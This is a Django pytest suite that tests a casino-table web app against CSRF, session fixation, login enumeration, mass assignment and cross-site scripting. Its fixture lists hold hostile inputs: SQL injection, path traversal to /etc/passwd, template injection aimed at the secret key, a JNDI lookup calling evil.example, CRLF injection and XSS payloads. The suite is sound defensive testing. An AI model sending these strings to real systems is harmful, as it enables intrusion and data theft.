"""What pages may be attacked with: forms from elsewhere, links that do something, old cookies, hostile texts.

Every address of the house is walked through, so whatever page is new is attacked too.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from django.contrib.auth.hashers import MD5PasswordHasher
from django.test import Client
from django.urls import NoReverseMatch, Resolver404, resolve

from tables.base.clock import DATABASE_CLOCK
from tables.base.refs import own_ref
from tables.models import (
    Adjustment,
    Alert,
    ApprovalRequest,
    ChatLine,
    ChipOrder,
    Event,
    Halt,
    Player,
    Restriction,
    Table,
)
from tables.services.pit import sanctions
from tables.services.players import chat
from tests.extent import NIGHTLY, first
from tests.house.kit import House, bare_rows

from .pit_kit import browser_of, like, member
from .test_account_forms import PASSWORD, browser
from .test_account_forms import member as player_with_password
from .test_kiosk_gate import ALL

pytestmark = pytest.mark.django_db

EXEMPT = {"/kiosk/begin/"}
"""What takes no token of a form: who may ask, its Origin says (tests/floor/test_kiosk_session.py)."""

METRICS = {"/metrics", "/healthz", "/readyz"}


def there(path: str) -> bool:
    try:
        resolve(path)
    except (Resolver404, NoReverseMatch):
        return False
    return True


WALK = [path for path, _ in ALL if there(path) and not path.startswith("/static/")]


@pytest.fixture
def house(db: None) -> Iterator[House]:
    """A house whose books must be in order when the test is over."""
    house = House()
    yield house
    house.in_order()


def strict(client: Client) -> Client:
    """The same login in a browser that has to show a token, as all browsers outside of tests have."""
    other = Client(enforce_csrf_checks=True)
    other.cookies = client.cookies
    return other


def all_that_is_done() -> list[Any]:
    """What any deed would leave behind: chips, rounds, people; events, orders, requests, restrictions, alerts."""
    kinds: tuple[Any, ...] = (Event, Adjustment, ApprovalRequest, ChipOrder, Restriction, Halt, Alert, ChatLine)
    return [*bare_rows(), *(list(kind.objects.order_by("pk").values()) for kind in kinds)]


# ── Forms from elsewhere, links that do something (W2, W3) ──────────────────────────────────────────────────


def test_no_address_takes_a_form_without_our_token(house: House) -> None:
    """Also as HTMX sends it, and with a token that was made up: whoever is logged in, at whatever page."""
    house.table("demo")
    ana = house.player("ana")
    assert len(WALK) > 150
    for who in (browser_of(ana), browser_of(member("shift_manager"))):
        attacker = strict(who)
        before = all_that_is_done()
        for path in set(WALK) - EXEMPT - METRICS:
            for headers in ({}, {"hx-request": "true"}):
                answer = attacker.post(path, {"csrfmiddlewaretoken": "x" * 64, "credits": "1"}, headers=headers)
                assert answer.status_code in (403, 404, 405), (path, answer.status_code)
        assert all_that_is_done() == before


@pytest.mark.in_full
def test_looking_at_any_address_changes_nothing(house: House) -> None:
    """What only takes a form answers 405; no other page moves a chip, writes an event or lets anybody in."""
    table, ana, rui = house.table("demo"), house.player("ana"), house.player("rui")
    house.until(table, "betting")
    house.bet(ana, table, "player", 10)
    manager = member("shift_manager")
    for who in (browser_of(rui), browser_of(manager)):
        before = all_that_is_done()
        for path in WALK:
            if path in ("/accounts/logout/",):
                continue
            answer = who.get(path)
            assert answer.status_code < 500, path
        assert all_that_is_done() == before


# ── Logins (W4, W5, W14) ────────────────────────────────────────────────────────────────────────────────────


def test_who_logs_in_gets_a_session_of_a_new_key(house: House) -> None:
    """A key that somebody has planted in the browser before opens nothing afterwards."""
    ana, victim = player_with_password(house, "ana"), browser()
    victim.get("/language/")
    victim.post("/language/", {"language": "pt", "next": "/"})
    session = victim.session
    session["planted"] = True
    session.save()
    victim.cookies["sessionid"] = planted = str(session.session_key)
    victim.post("/accounts/login/", {"login": "ana", "password": PASSWORD})
    assert victim.session["_auth_user_id"] == str(ana.pk)
    assert victim.cookies["sessionid"].value != planted
    attacker = browser()
    attacker.cookies["sessionid"] = planted
    assert "_auth_user_id" not in attacker.session
    assert attacker.get("/history/").status_code == 302


def test_a_cookie_that_was_copied_is_worth_nothing_after_logging_out(house: House) -> None:
    ana = browser_of(house.player("ana"))
    copy = like(ana)
    assert copy.get("/history/").status_code == 200
    ana.post("/accounts/logout/")
    assert copy.get("/history/").status_code == 302
    assert copy.post("/top-up/").status_code == 302


class CountingHasher(MD5PasswordHasher):
    """Counts how often somebody's time was taken for a password."""

    algorithm = "md5"
    times = 0

    def encode(self, password: str, salt: str) -> str:
        type(self).times += 1
        return str(super().encode(password, salt))


def test_a_name_that_there_is_not_takes_the_same_work_and_the_same_answer(house: House, settings: Any) -> None:
    settings.PASSWORD_HASHERS = [f"{__name__}.CountingHasher"]
    player_with_password(house, "ana")

    def refused(name: str) -> tuple[int, str]:
        CountingHasher.times = 0
        answer = browser().post("/accounts/login/", {"login": name, "password": "not this one 1887"})
        page = answer.content.decode().replace(name, "")
        return CountingHasher.times, page.partition('name="csrfmiddlewaretoken"')[0]

    known, unknown = refused("ana"), refused("bea")
    assert known[0] == unknown[0] >= 1
    assert known[1] == unknown[1]


# ── Fields and queries (W8, W11, W17) ───────────────────────────────────────────────────────────────────────

NAMES = (
    "q", "id", "number", "player", "table", "game", "since", "until", "day", "kind", "page", "next", "lang", "at",
    "step", "order", "order_by", "sort", "what", "box", "why", "month", "o", "p", "e", "result", "realm", "who",
    "player__password__startswith", "by__is_superuser", "asked__contains",
)  # fmt: skip
HOSTILE = (
    "' OR 1=1 --",
    "1; DROP TABLE tables_player; --",
    "password",
    "-player__password",
    '{"$gt": ""}',
    "1'||(SELECT password FROM tables_player LIMIT 1)||'",
    "\x00",
    "%00",
    "../../etc/passwd",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "%(password)s",
    "${jndi:ldap://evil.example/x}",
    "a\r\nSet-Cookie: hers=mine",
    "9" * 400,
    "٣",
    "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
)


@pytest.mark.in_full
def test_nothing_in_a_query_becomes_part_of_ours(house: House, settings: Any) -> None:
    """Each page has a third of them, and of three pages one has each; with NIGHTLY=1 every page has all."""
    table, ana = house.table("demo"), house.player("ana")
    house.until(table, "betting")
    house.bet(ana, table, "player", 10)
    house.play_out(table)
    pages = [path for path in WALK if path != "/accounts/logout/"]
    player, boss = browser_of(ana), browser_of(member("shift_manager"))
    hers = [path for path in pages if player.get(path).status_code == 200]
    others = [path for path in pages if path not in hers and boss.get(path).status_code in (200, 404)]
    for who, pages in ((player, hers), (boss, others)):
        assert len(pages) > 20
        before = bare_rows()
        for at, path in enumerate(pages):
            for hostile in HOSTILE if NIGHTLY else HOSTILE[at % 3 :: 3]:
                answer = who.get(path, dict.fromkeys(NAMES, hostile))
                assert answer.status_code < 500, (path, hostile)
                assert "hers" not in answer.cookies
                said = b"".join(answer) if answer.streaming else answer.content
                assert settings.SECRET_KEY.encode() not in said
        assert bare_rows() == before


def test_nobody_gives_themselves_what_a_form_does_not_ask_for(house: House) -> None:
    """Signing up, another name, a limit, a top-up: with a role, a balance and another's number beside."""
    rui = house.player("rui")
    more = {
        "role": "shift_manager", "is_staff": "on", "is_superuser": "on", "balance": "99999900", "guest": "on",
        "user": rui.pk, "user_id": rui.pk, "player": rui.pk, "id": rui.pk, "pk": rui.pk, "kiosk": "1",
    }  # fmt: skip
    somebody = browser()
    signs_up = {"username": "ana", "password1": PASSWORD, "password2": PASSWORD}
    somebody.post("/accounts/signup/", signs_up | more)
    ana = Player.objects.get(username="ana")
    of_rui = Player.objects.filter(pk=rui.pk).values().get()
    for path, fields in (
        ("/account/name/", {"name": "Jade Dragon"}),
        ("/safely/limit/", {"kind": "loss", "most": "500"}),
        ("/safely/check/every/", {"minutes": "30"}),
        ("/top-up/", {}),
        ("/account/still-there/", {}),
    ):
        assert somebody.post(path, fields | more).status_code < 500, path
    ana.refresh_from_db()
    assert (ana.role, ana.is_superuser, ana.guest, ana.kiosk_id) == ("", False, False, None)
    assert Player.objects.filter(pk=rui.pk).values().get() == of_rui
    assert house.balance(ana) == house.balance(rui) == 1_000_000


def test_a_form_of_ten_thousand_fields_is_refused(house: House) -> None:
    ana = browser_of(house.player("ana"))
    many = {f"f{number}": "x" for number in range(10_000)}
    before = bare_rows()
    assert ana.post(
        "/top-up/", "&".join(f"{name}=x" for name in many), "application/x-www-form-urlencoded"
    ).status_code in (400, 413)
    assert ana.post("/account/name/", dict(list(many.items())[:150])).status_code == 400
    assert bare_rows() == before


# ── Hostile texts (W7, W9) ──────────────────────────────────────────────────────────────────────────────────

PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "' onfocus='alert(1)' autofocus='",
    "<a hx-get=/pit/ hx-trigger=load>x</a>",
    "{{ 7|add:7 }}{% debug %}",
    "\u202e<svg onload=alert(1)>\u200b",
    "&lt;script&gt;",
    "javascript:alert(1)",
)


class Watched(HTMLParser):
    """Fails at an element that runs something, or that no template of ours has written."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            assert not name.startswith("hx-") or value != "/pit/", (tag, name, value)
            assert name not in ("href", "src", "action") or not (value or "").startswith("javascript:"), (tag, value)
        assert tag != "svg" or dict(attrs).keys() != {"onload"}

    handle_startendtag = handle_starttag


@pytest.mark.parametrize("payload", first(*PAYLOADS))
def test_a_text_of_somebody_is_text_on_every_page(house: House, payload: str) -> None:
    """As a name, a line of the chat, a reason, a table's name and a message: whoever looks, in whichever language."""
    table, ana = house.table("demo"), house.player("ana")
    Player.objects.filter(pk=ana.pk).update(name=payload[:30])
    Table.objects.filter(pk=table.pk).update(name=payload[:40])
    house.until(table, "betting")
    house.bet(ana, table, "player", 10)
    chat.speak(ana.pk, table.pk, own_ref(ana.key, "ref-1"), payload, clock=DATABASE_CLOCK)
    manager = member("shift_manager")
    sanctions.restrict(manager, ana.pk, "warning", payload, clock=DATABASE_CLOCK)
    sanctions.comp(manager, ana.pk, 100, payload, clock=DATABASE_CLOCK)
    log = house.play_out(table)
    pages = {
        ana: ("/", "/tables/demo/", "/history/", f"/rounds/{log.pk}/", "/account/", "/rules/baccarat/"),
        manager: (
            "/pit/", "/pit/tables/demo/", "/pit/people/", f"/pit/people/{ana.pk}/", "/pit/events/", "/pit/rounds/",
            f"/pit/rounds/{log.pk}/", "/pit/reports/", "/pit/events/significant/", "/pit/shift/",
        ),
    }  # fmt: skip
    seen = 0
    for who, paths in pages.items():
        client = browser_of(who)
        for language in ("en", "pt", "zh-hant"):
            for path in paths:
                page = client.get(path, headers={"accept-language": language}).content.decode()
                Watched().feed(page)
                seen += payload.strip("\u202e")[:6] in html.unescape(page)
    assert seen > 12, "the text is on those pages"
